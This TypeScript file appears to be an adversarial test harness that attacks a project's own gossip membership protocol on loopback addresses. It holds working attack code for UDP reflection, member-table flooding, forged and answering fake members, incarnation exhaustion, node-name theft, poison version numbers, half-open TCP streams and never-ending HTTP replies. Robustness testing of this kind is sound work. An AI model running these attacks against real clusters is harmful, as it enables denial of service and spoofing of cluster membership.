import { randomBytes } from 'node:crypto'
import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import { connect, createServer, type AddressInfo, type Socket as TcpSocket } from 'node:net'
import { encodeCompound } from '../../src/membership/memberlist/wire/compound.ts'
import { encodeCompressed } from '../../src/membership/memberlist/wire/compression.ts'
import { encodeMessage } from '../../src/membership/memberlist/wire/message-codec.ts'
import type { Alive, Message, PushPullNode } from '../../src/membership/memberlist/wire/messages.ts'
import { decodePacket } from '../../src/membership/memberlist/wire/packet-decoder.ts'
import { encodeStream } from '../../src/membership/memberlist/wire/stream-encoder.ts'
import type { Addresses } from './attacked-cluster.ts'
import type { Attack } from './run-attack.ts'

const HOLD_MS = 6000
const TOP_INCARNATION = 2 ** 31 - 1
const VICTIM = 1

const pause = (ms: number) => new Promise<void>((wake) => setTimeout(wake, ms))
const ip = (text: string) => Uint8Array.from(text.split('.').map(Number))
const json = (value: unknown) => new TextEncoder().encode(JSON.stringify(value))

/** What anybody can do who reaches the gossip port; the second member is the victim where one is meant. */
export const GOSSIP_ATTACKS: Readonly<Record<string, Attack>> = {
  reflector: async (members) => {
    const third = await openUdp('127.0.0.77')
    let bytes = 0
    third.on('message', (datagram) => {
      bytes += datagram.length
    })
    const attacker = await openUdp('127.0.0.66')
    const source = { address: ip('127.0.0.77'), port: third.address().port, node: '' }
    const pings = Array.from({ length: 254 }, (): Message => ({ kind: 'ping', seqNo: 1, node: '', source }))
    const indirect = Array.from({ length: 200 }, (_, seqNo): Message => ({
      kind: 'indirect-ping',
      seqNo,
      target: source.address,
      port: source.port,
      node: randomText(20),
      nack: true,
      source,
    }))
    let sent = 0
    for (let i = 0; i < 20; i++) {
      for (const { gossipPort } of members) {
        sent += await send(attacker, pings, gossipPort)
        sent += await send(attacker, indirect, gossipPort)
      }
      await pause(100)
    }
    await pause(2000)
    return JSON.stringify({ sent, reflected: bytes })
  },

  'invented-members': async (members) => {
    let sent = 0
    for (let round = 0; round < 3; round++) {
      const nodes = Array.from({ length: 19_990 }, (_, i) =>
        nodeOf(
          alive(`invented-${i}`, {
            incarnation: round + 1,
            address: ip(`127.${1 + (i >> 16)}.${(i >> 8) & 255}.${i & 255}`),
            meta: json({ ServicePort: String(1 + (i % 60_000)), Weight: 1000, Zone: `z${i}` }),
          }),
        ),
      )
      const bytes = pushPull(nodes)
      sent += bytes.length * members.length
      await Promise.all(members.map(({ gossipPort }) => sendStream(gossipPort, bytes)))
      await pause(1000)
    }
    return `3 push/pulls of 19,990 members to each, ${Math.round(sent / 1e6)} MB`
  },

  'invented-members-that-answer': async (members) => {
    const thief = await openUdp('127.0.0.66')
    answerPings(thief)
    const meta = json({ ServicePort: '6666', Weight: 1000 })
    for (let i = 0; i < 300; i++) {
      const { gossipPort } = members[i % members.length] as Addresses
      const place = { address: ip('127.0.0.66'), port: thief.address().port, meta }
      await send(thief, [alive(`answering-${i}`, place)], gossipPort)
      await pause(10)
    }
    await pause(HOLD_MS / 2)
    return '300 members at one address that answers'
  },

  // Most of them cannot be listed: an address has so many members at most.
  'invented-members-at-many-ports': async (members) => {
    const meta = json({ ServicePort: '6666', Weight: 1000 })
    const places: Socket[] = []
    for (let i = 0; i < 300; i++) {
      const place = await openUdp('127.0.0.67')
      answerPings(place)
      places.push(place)
      const { gossipPort } = members[i % members.length] as Addresses
      const at = { address: ip('127.0.0.67'), port: place.address().port, meta }
      await send(place, [alive(`port-${i}`, at)], gossipPort)
      await pause(10)
    }
    await pause(HOLD_MS / 2)
    return `${places.length} members at as many ports that answer`
  },

  // Who asks a member for agreement has it ask all of these.
  'invented-members-that-answer-http': async (members) => {
    const server = createServer((socket) => {
      socket.on('error', () => {})
      socket.once('data', () => {
        answerWithoutEnd(socket, asked++)
      })
    })
    let asked = 0
    await once(server.listen(0, '127.0.0.68'), 'listening')
    const { port: HttpPort } = server.address() as AddressInfo
    for (let i = 0; i < 40; i++) {
      const place = await openUdp('127.0.0.68')
      answerPings(place)
      const at = { address: ip('127.0.0.68'), port: place.address().port }
      const forged = alive(`web-${i}`, { ...at, meta: json({ ServicePort: '6666', HttpPort }) })
      for (const { gossipPort } of members) await send(place, [forged], gossipPort)
    }
    let answers = 0
    const endMs = performance.now() + HOLD_MS
    const crowd = Array.from({ length: 100 }, async () => {
      while (performance.now() < endMs) {
        const url = `http://127.0.0.1:${members[0]?.httpPort}/v1/agreement`
        const answer = await fetch(url).catch(() => undefined)
        await answer?.arrayBuffer().catch(() => {})
        answers++
      }
    })
    await Promise.all(crowd)
    return `${asked} answers without an end to ${answers} questions of agreement`
  },

  'incarnation-raised-step-by-step': async (members) => {
    const attacker = await openUdp('127.0.0.66')
    const { name, gossipPort: port } = members[VICTIM] as Addresses
    const steps: Message[] = []
    for (let at = 1; at < TOP_INCARNATION;) {
      at = Math.min(TOP_INCARNATION, at + 2 ** 20 - 64)
      steps.push({ kind: 'suspect', incarnation: at, node: name, from: (members[0] as Addresses).name })
    }
    const forged = alive(name, {
      incarnation: TOP_INCARNATION,
      port,
      address: ip('127.0.0.1'),
      meta: json({ ServicePort: '666', Weight: 1000 }),
    })
    for (let i = 0; i < steps.length; i += 20) {
      for (const member of members) await send(attacker, steps.slice(i, i + 20), member.gossipPort)
      await pause(5)
    }
    for (const member of members) await send(attacker, [forged], member.gossipPort)
    await pause(1000)
    return `${steps.length} steps to the top, then another port and weight`
  },

  'protocol-version-nobody-has': async (members) => {
    const poison = await openUdp('127.0.0.66')
    answerPings(poison)
    const forged = alive('poison', { port: poison.address().port, vsn: Uint8Array.of(5, 5, 5, 0, 0, 0) })
    for (const { gossipPort } of members) await send(poison, [forged], gossipPort)
    await pause(HOLD_MS)
    return 'one alive with versions 5 to 5'
  },

  'name-theft': async (members) => {
    const thief = await openUdp('127.0.0.66')
    answerPings(thief)
    const { name } = members[VICTIM] as Addresses
    for (let round = 0; round < 6; round++) {
      const incarnation = 20 + round
      const place = { incarnation, address: ip('127.0.0.66'), port: thief.address().port }
      const theft = [
        { kind: 'dead', incarnation, node: name, from: name } as const,
        alive(name, { ...place, meta: json({ ServicePort: '6666' }) }),
      ]
      for (const { gossipPort } of members) await send(thief, theft, gossipPort)
      await pause(1000)
    }
    return '6 times left, then alive at an address that answers'
  },

  'half-sent-streams': ([target]) =>
    sendHalves(target, pushPull([nodeOf(alive('q'.repeat(200)))], false).subarray(0, 60)),

  // The head of an encrypted message of 8 MB, and a little of it.
  'half-sent-frames': ([target]) =>
    sendHalves(target, Buffer.concat([Buffer.from([10, 0, 0x7f, 0xff, 0xff]), Buffer.alloc(200_000, 1)])),

  noise: async (members) => {
    const attacker = await openUdp('127.0.0.66')
    const endMs = performance.now() + HOLD_MS
    let sent = 0
    const alives = Array.from({ length: 20 }, (_, i) => alive(`noise-${i}`))
    const plain = encodeCompressed(encodeCompound(alives.map(encodeMessage)))
    while (performance.now() < endMs) {
      for (let i = 0; i < 20; i++) {
        for (const { gossipPort } of members) {
          await sendBytes(attacker, i % 2 === 0 ? plain : randomBytes(1200), gossipPort)
          sent++
        }
      }
      await pause(4)
    }
    return `${sent} datagrams of noise and of plain gossip`
  },
}

/** Keeps 40 streams from each of ten addresses open that never come to their end; one that is closed is opened again. */
async function sendHalves(target: Addresses | undefined, half: Uint8Array): Promise<string> {
  let opened = 0
  let running = true
  const one = (localAddress: string) => {
    const socket = connect({ host: '127.0.0.1', port: target?.gossipPort ?? 0, localAddress })
    opened++
    socket.on('error', () => {})
    socket.on('connect', () => socket.write(half))
    socket.on('close', () => {
      if (running) setTimeout(one, 300, localAddress)
    })
  }
  for (let host = 2; host < 12; host++) for (let i = 0; i < 40; i++) one(`127.0.0.${host}`)
  await pause(HOLD_MS + 4000)
  running = false
  return `${opened} streams from ten addresses`
}

function alive(node: string, more: Partial<Omit<Alive, 'kind' | 'node'>> = {}): Alive {
  return {
    kind: 'alive',
    incarnation: 1,
    node,
    address: ip('127.0.0.66'),
    port: 9,
    meta: json({ ServicePort: '8000' }),
    vsn: Uint8Array.of(1, 5, 2, 0, 0, 0),
    ...more,
  }
}

function nodeOf({ node: name, address, port, meta, incarnation, vsn }: Alive): PushPullNode {
  return { name, address, port, meta, incarnation, state: 0, vsn }
}

function pushPull(nodes: readonly PushPullNode[], compression = true): Uint8Array {
  const message = { kind: 'push-pull', pushPull: { join: true, nodes, userState: new Uint8Array() } } as const
  return encodeStream(message, { role: 'request', compression, label: '' })
}

async function openUdp(host: string): Promise<Socket> {
  const socket = createSocket('udp4')
  socket.bind(0, host)
  await once(socket, 'listening')
  return socket
}

/** Sends messages in one datagram; its length in bytes. */
async function send(socket: Socket, messages: readonly Message[], port: number): Promise<number> {
  const bytes = encodeCompressed(encodeCompound(messages.map(encodeMessage)))
  await sendBytes(socket, bytes, port)
  return bytes.length
}

function sendBytes(socket: Socket, bytes: Uint8Array, port: number): Promise<void> {
  return new Promise((resolve) => {
    socket.send(bytes, port, '127.0.0.1', () => {
      resolve()
    })
  })
}

/** Sends a whole stream and waits for its end, for 10 s at most. */
function sendStream(port: number, bytes: Uint8Array): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port })
    socket.on('connect', () => socket.write(bytes))
    socket.on('data', () => {})
    socket.on('error', () => {})
    socket.on('close', () => {
      resolve()
    })
    socket.setTimeout(10_000, () => socket.destroy())
  })
}

/** Answers pings, whoever they name, as a member would. */
function answerPings(socket: Socket): void {
  socket.on('message', (datagram, from) => {
    const result = decodePacket(datagram, { keyring: [], requireEncryption: false, label: '' })
    if (!result.ok) return
    for (const message of result.messages) {
      if (message.kind !== 'ping') continue
      const ack = encodeMessage({ kind: 'ack', seqNo: message.seqNo, payload: new Uint8Array() })
      socket.send(ack, from.port, from.address)
    }
  })
}

/** Answers an HTTP request in one of the ways in which a client could wait for ever, or read for ever. */
function answerWithoutEnd(socket: TcpSocket, turn: number): void {
  const ok = 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n'
  const [begin = '', again = ''] = [
    [ok, ' '.repeat(64 * 1024)],
    ['HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: any\r\n\r\n'],
    [ok, ''],
  ][turn % 3] as string[]
  socket.write(begin)
  if (again === '') return
  const goOn = () => {
    while (socket.write(again)) {
      // Until the system takes no more.
    }
  }
  socket.on('drain', goOn)
  goOn()
}

function randomText(length: number): string {
  return randomBytes(length).toString('base64url').slice(0, length)
}
